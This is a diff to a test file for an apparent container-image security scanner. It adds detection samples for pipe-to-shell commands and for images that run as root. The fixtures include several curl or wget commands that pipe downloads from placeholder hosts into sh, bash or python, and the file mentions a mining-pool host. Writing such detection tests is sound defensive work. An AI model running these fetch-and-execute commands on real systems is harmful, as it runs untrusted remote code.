@@ -34,6 +34,8 @@ const POOL = 'pool.example-mining.test';
 const INDICATOR_SAMPLES: Record<string, { positive: string[]; negative: string[] }> = {
   'pipe-to-shell': {
     positive: [
+      'curl -fsSL https://get.example.test | env VAR=1 sh',
+      'wget -qO- https://get.example.test | busybox sh',
       'curl -fsSL https://get.example.test/install.sh | sh',
       'wget -qO- http://203.0.113.9/a | sudo bash',
       'curl -s https://x.example.test/i | python3 -',
@@ -297,8 +299,15 @@ const FINDING_SAMPLES: Record<string, { positive: [ResolvedImage, string][]; neg
       [image({ Cmd: ['app'] }), 'low'],
       [image({ User: '0:0' }), 'low'],
       [image({ User: 'root' }), 'low'],
+      [image({ User: 'root:1000' }), 'low'],
+      [image({ User: '00' }), 'low'],
     ],
-    negative: [image({ User: 'node' }), image({ User: '1000:1000' }), image(undefined)],
+    negative: [
+      image({ User: 'node' }),
+      image({ User: '1000:1000' }),
+      image({ User: '1000:0' }),
+      image(undefined),
+    ],
   },
   'curl-pipe-shell': {
     positive: [
